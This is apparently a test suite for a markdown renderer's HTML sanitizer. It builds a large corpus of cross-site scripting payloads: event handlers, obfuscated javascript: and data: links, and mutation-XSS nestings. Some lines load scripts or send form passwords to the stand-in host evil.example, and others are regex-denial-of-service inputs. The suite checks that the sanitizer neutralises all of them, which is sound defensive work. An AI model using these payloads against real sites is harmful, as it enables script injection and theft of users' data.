import fc from 'fast-check';
import { Marked } from 'marked';
import { describe, expect, test } from 'vitest';
import { harmIn } from '../../testing/harmful-html.ts';
import { htmlOf, parsed, plainHtml, sanitized } from './markdown.ts';

/** Whether four times as many letters take about four times as long, and not sixteen: of three tries, for other work goes on. */
function isEven(read: (letters: number) => void): boolean {
  const took = (letters: number) => {
    const began = process.cpuUsage();
    read(letters);
    const { user, system } = process.cpuUsage(began);
    return (user + system) / 1000;
  };
  return [1, 2, 3].some(() => took(48_000) < 8 * took(12_000) + 60);
}

const code = 'alert(1)';
const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onbegin',
  'oNpOiNtErRaWuPdAtE',
];
const elements = [
  'img src=x',
  'svg',
  'body',
  'details open',
  'input autofocus',
  'video src=x',
  'a href=#',
  'p',
  'math',
  'x',
];
const breaks = [' ', '/', '\n', '\t', '\u000c'];
const quotes = ['', '"', "'", '`'];
const byHandler = elements.flatMap((element) =>
  handlers.flatMap((handler, n) => {
    const quote = quotes[n % quotes.length];
    return `<${element}${breaks[n % breaks.length]}${handler}=${quote}${code}${quote}>`;
  }),
);

const schemes = [
  ...['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'java\nscript:', ' javascript:', '\u0001javascript:'],
  ...[
    'javascript&colon;',
    '&#106;avascript:',
    '&#x6A;avascript:',
    'javascript&#58;',
    '&#0000106avascript:',
    'vbscript:',
  ],
  ...[
    'data:text/html,',
    'data:text/html;base64,',
    'data:image/svg+xml,',
    'livescript:',
    'file:///',
    'blob:',
    'view-source:',
  ],
  ...['//', '\\\\', '/\\', 'intent://', 'jar:', 'feed:javascript:', 'javascript://%0a'],
];
const carriers = [
  (to: string) => `[x](${to})`,
  (to: string) => `[x](<${to}>)`,
  (to: string) => `![x](${to})`,
  (to: string) => `<${to}>`,
  (to: string) => `[x][y]\n\n[y]: ${to}`,
  (to: string) => `[x](https://example.org "t" onmouseover="${to}")`,
  (to: string) => `<a href="${to}">x</a>`,
  (to: string) => `<a href='${to}'>x</a>`,
  (to: string) => `<a href=${to}>x</a>`,
  (to: string) => `<img src="${to}">`,
  (to: string) => `<iframe src="${to}"></iframe>`,
  (to: string) => `<form action="${to}"><button>x</button></form>`,
  (to: string) => `<object data="${to}"></object>`,
  (to: string) => `<svg><a xlink:href="${to}"><text>x</text></a></svg>`,
];
const byScheme = schemes.flatMap((scheme) => carriers.map((carry) => carry(`${scheme}${code}`)));

const byNesting = [
  `<script>${code}</script>`,
  `<scr<script>ipt>${code}</scr</script>ipt>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<script\u0000>${code}</script>`,
  `<<script>${code}//<</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code}&gt;">`,
  `<svg><style><img src=x onerror=${code}></style></svg>`,
  `<textarea><img src=x onerror=${code}></textarea>`,
  `<title><img src=x onerror=${code}></title>`,
  `<xmp><img src=x onerror=${code}></xmp>`,
  `<!--><img src=x onerror=${code}>-->`,
  `<!--[if gte IE 4]><script>${code}</script><![endif]-->`,
  `<![CDATA[<script>${code}</script>]]>`,
  `<?php echo "<script>${code}</script>" ?>`,
  `<style>@import "https://evil.example/x.css"</style>`,
  `<p style="background:url(https://evil.example)">x</p>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  `<base href="https://evil.example/">`,
  `<template><script>${code}</script></template>`,
  `\`\`\`html"><script>${code}</script>\n<script>${code}</script>\n\`\`\``,
  `\`<script>${code}</script>\``,
  `| a | b |\n|--|--|\n| <script>${code}</script> | [x](javascript:${code}) |`,
  `- [x] <img src=x onerror=${code}>`,
  `> <iframe srcdoc="<script>${code}</script>">`,
  `[<img src=x onerror=${code}>](https://example.org)`,
  `[x](https://example.org"onmouseover="${code})`,
  `[x](https://example.org '"><script>${code}</script>')`,
  `&lt;script&gt;${code}&lt;/script&gt;`,
  `<input type=image src=x onerror=${code}>`,
  `<input type=password name=password><input type=submit formaction=https://evil.example>`,
  `<a href=https://example.org target=_top rel=opener ping=https://evil.example>x</a>`,
  `<p id=root class=fixed>x</p>`,
  `<div dir=rtl contenteditable>x</div>`,
];
const corpus = [...byHandler, ...byScheme, ...byNesting];

test('the corpus is a large one', () => {
  expect(new Set(corpus).size).toBeGreaterThan(450);
});

test('of everything in the corpus nothing but text, a few tags and safe links is left', () => {
  const harm = corpus.flatMap((attack) => harmIn(htmlOf(attack)).map((found) => `${attack} => ${found}`));
  expect(harm).toEqual([]);
});

test('nor of any pieces of it put together', () => {
  const pieces = fc.constantFrom(
    ...corpus,
    ...breaks,
    '<',
    '>',
    '"',
    "'",
    '`',
    '\\',
    '[',
    '](',
    ')',
    '!',
    '&#',
    '<!--',
    '-->',
  );
  fc.assert(
    fc.property(fc.array(pieces, { maxLength: 6 }), (parts) => {
      expect(harmIn(htmlOf(parts.join('')))).toEqual([]);
    }),
    { numRuns: 500 },
  );
});

test('what is found harmful is harmful: the test of the test', () => {
  for (const html of [
    `<script>${code}</script>`,
    `<p onclick="${code}">`,
    '<img src="x">',
    '<a href="javascript:x">',
    '<a href="java&#x09;script:x">',
    '<a href="//evil.example">',
    '<p style="x">',
    '<constructor>',
  ]) {
    expect([html, harmIn(html).length > 0]).toEqual([html, true]);
  }
  expect(harmIn('<p>a &lt;b&gt; <a href="https://example.org" rel="x">c</a></p>')).toEqual([]);
});

describe('what people mean is shown', () => {
  test.each([
    ['[x](https://example.org/a?b=c)', 'href="https://example.org/a?b=c"'],
    ['<me@example.org>', 'href="mailto:me@example.org"'],
    ['1. one\n2. two', '<li>two</li>'],
    ['- [x] done', 'type="checkbox"'],
    ['a < b && c > d', 'a &lt; b &amp;&amp; c &gt; d'],
    ['`<script>`', '<code>&lt;script&gt;</code>'],
  ])('%s', (markdown, part) => {
    expect(htmlOf(markdown)).toContain(part);
  });

  test('and a link opens in a window that knows nothing of ours', () => {
    expect(htmlOf('[x](https://example.org)')).toContain('rel="noopener noreferrer nofollow"');
  });
});

const linked = [
  ...[
    'me@example.org',
    'a_b@x.org',
    '@',
    'a',
    ' ',
    '\n',
    '/',
    'http://',
    'https://example.org',
    'HTTP://A.b',
    'ftp://x',
  ],
  ...['mailto:', 'xmpp:', 'mailto:x@y.zz', 'xmpp:x@y.zz/ab', '.', '_', '*', '~', '`', '(', ')', '&', '&amp;', '&a;'],
  ...[
    '&#106;',
    '!',
    '?',
    ';',
    ':',
    '"',
    "'",
    '<',
    '>',
    '[',
    '](',
    '[x](http://e.org)',
    '\\',
    '-',
    '+',
    '%',
    'é',
    '1',
    '🙂',
  ],
];

test('links without brackets are found where the parser itself finds them', () => {
  const itsOwn = new Marked({ gfm: true, breaks: true, renderer: { html: ({ text }) => escaped(text) } });
  let links = 0;
  fc.assert(
    fc.property(fc.array(fc.constantFrom(...linked, 'www.', 'www.a.org'), { maxLength: 14 }), (chosen) => {
      const text = chosen.join('');
      // Of a www. in front of an @ the parser's own search makes a link or none by the signs that stand before it.
      if (/www\..*@/s.test(text)) return;
      // Right behind a mark of code or of a stroke it reads the beginning of such an address as plain text.
      if (/[`~](?:xmpp|mailto):/.test(text)) return;
      const html = itsOwn.parse(text, { async: false });
      if (html.includes('<a ')) links += 1;
      expect(parsed(text)).toBe(html);
    }),
    { numRuns: 3_000 },
  );
  expect(links).toBeGreaterThan(1_000);
});

const escaped = (text: string) =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');

describe('a text made to be hard to read', () => {
  const repeated = ['>', '[', '*a_ ', '<b>', '- ', '1. ', '_a', 'a**b', '`', '![', '<!--', '<', '&', '~', 'a\n', '|a'];
  test.each(repeated)('of nothing but %j is shown in good time', (piece) => {
    const began = performance.now();
    const html = htmlOf(piece.repeat(50_000 / piece.length));
    expect(performance.now() - began).toBeLessThan(5_000);
    expect(harmIn(html)).toEqual([]);
  });

  test.each([
    ['exclamation marks', '!'.repeat(50_000)],
    ['list items', '\n- '.repeat(16_000)],
    ['list items apart', '- a\n\n'.repeat(10_000)],
    ['list items within each other', Array.from({ length: 300 }, (_, depth) => `${' '.repeat(depth)}- a\n`).join('')],
    ['list marks on one line', '+\t'.repeat(25_000)],
    ['lists in a list on one line', `${' -'.repeat(990)} a`],
    ['signs that may begin emphasis', 'mailto:_'.repeat(1_500)],
    ['links', 'http://a('.repeat(5_500)],
    ['rows of a table', '|a|\n'.repeat(12_500)],
    ['columns of a table with many empty rows', `${'|a'.repeat(100)}|\n${'|-'.repeat(100)}|\n${'|\n'.repeat(24_000)}`],
    ['quotations within each other', `${'>'.repeat(500)}\nh`],
    ['lines of a quotation', '> a\n'.repeat(12_500)],
    ['headings', '# \n'.repeat(16_000)],
    ['less-than signs', '<'.repeat(50_000)],
    ['blanks', `a${' '.repeat(49_000)}b`],
    ['lines that a list goes on with', `${'- - | \nh.h/'.repeat(4_500)}`],
  ])('of too many %s is shown as it was written', (_what, text) => {
    const escaped = text.replaceAll('<', '&lt;').replaceAll('>', '&gt;');
    expect(htmlOf(text)).toBe(`<pre>${escaped}</pre>`);
  });

  const hard = [
    'a',
    '.',
    '(',
    ')',
    '@',
    '/',
    ';',
    ' ',
    'http://a',
    'www.',
    'a@b.c',
    '&a;',
    '[a](',
    '1',
    '_',
    'mailto:',
  ];
  test.each(hard)('of %j and other pieces takes no longer by the letter the longer it is', (piece) => {
    for (const other of hard) {
      const text = (letters: number) => (piece + other).repeat(letters / (piece.length + other.length));
      expect([other, isEven((letters) => parsed(text(letters)))]).toEqual([other, true]);
      expect([other, isEven((letters) => parsed(`${text(letters)} ${piece.repeat(9)}@`))]).toEqual([other, true]);
    }
  });

  test.each([
    ['a word before an @', (letters: number) => `${'a'.repeat(letters)}@`],
    ['words before an @', (letters: number) => `${'a.'.repeat(letters / 2)}@`],
    ['entities at the end of a link', (letters: number) => `http://a${'&a;'.repeat(letters / 3)}`],
    ['signs at the end of a link', (letters: number) => `http://a${'?.,:;'.repeat(letters / 5)}`],
    ['brackets that are never closed in a link', (letters: number) => `http://a${'('.repeat(letters)}`],
  ])('such as %s takes no longer by the letter the longer it is', (_what, text) => {
    expect(isEven((letters) => parsed(text(letters)))).toBe(true);
  });

  test('is not what people write: a long plan keeps its lists and tables', () => {
    const steps = Array.from({ length: 300 }, (_, n) => `${n + 1}. Step *${n + 1}*\n   - check it\n`)
      .join('')
      .slice(0, 4_000);
    const table = `| Host | Check |\n|---|---|\n${'| db-1 | `up` |\n'.repeat(300)}`;
    const html = htmlOf(`# Plan\n\n${steps}\n\n${table}`);
    expect(htmlOf(`a\n\n${'- '.repeat(60)}\n\nb`)).toContain('<hr');
    for (const tag of ['<h1>', '<ol>', '<ul>', '<table>', '<em>']) expect(html).toContain(tag);
  });

  test('is shown as it was written where the parser gives up', () => {
    expect(htmlOf(`${'1. '.repeat(16_000)}<b>`)).toMatch(/^<pre>1\. 1\. .*&lt;b&gt;/);
    expect(htmlOf('>'.repeat(1_999))).not.toBe('');
    expect(htmlOf('_a'.repeat(5_000))).toMatch(/^<pre>_a_a/);
  });
});

test('a placeholder in angle brackets is a word of the plan and is shown', () => {
  expect(htmlOf('Restart <service-name> on <host>')).toContain('Restart &lt;service-name&gt; on &lt;host&gt;');
  expect(htmlOf('<!-- not for the approvers? -->')).toContain('&lt;!-- not for the approvers? --&gt;');
});

const pieces = [
  ...['word', 'two words', ' ', '\n', '\n\n', '  \n', '# ', '## ', '- ', '1. ', '> ', '    ', '\t', '---\n', '```\n'],
  ...['*', '**', '_', '~~', '`', '\\', '"', "'", '&', '&amp;', '&quot;', '&#39;', '&nbsp;', '&copy;', '&lt;b&gt;'],
  ...[
    '<b>',
    '<',
    '>',
    '</p>',
    '[a](https://example.org)',
    'https://example.org',
    '- [x] done',
    '| a | b |',
    '|---|---|',
    'é',
    '🙂',
    '\u0000',
  ],
];

test('a text of plain tags only is what the sanitizer would have made of it', () => {
  let plain = 0;
  fc.assert(
    fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 40 }), (chosen) => {
      const html = parsed(chosen.join(''));
      const short = plainHtml(html);
      if (short === undefined) return;
      plain += 1;
      expect(short).toBe(sanitized(html));
    }),
    { numRuns: 2_000 },
  );
  expect(plain).toBeGreaterThan(200);
});

test.each([
  ['a tag that is not ours', '<script>alert(1)</script>'],
  ['an attribute', '<p onclick="alert(1)">x</p>'],
  ['a tag that is not closed', '<p>x'],
  ['half a tag', '<p>x</p><p'],
  ['more levels than are shown', `${'<em>'.repeat(51)}x${'</em>'.repeat(51)}`],
  ['a sign that is written otherwise', '<p>&colon;</p>'],
])('the sanitizer looks at %s', (_what, html) => {
  expect(plainHtml(html)).toBeUndefined();
});

test.each([
  ['Pay \u202eecila\u202c first', '<p>Pay [U+202E]ecila[U+202C] first</p>'],
  ['`rm \u2066old\u2069`', '<p><code>rm [U+2066]old[U+2069]</code></p>'],
  ['Pay &#x202e;ecila', '<p>Pay [U+202E]ecila</p>'],
  ['سلام \u200f!', 'سلام \u200f!'],
])('a mark that turns the order of reading is shown by its name: %j', (written, shown) => {
  expect(htmlOf(written)).toContain(shown);
  expect(htmlOf(written)).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
});
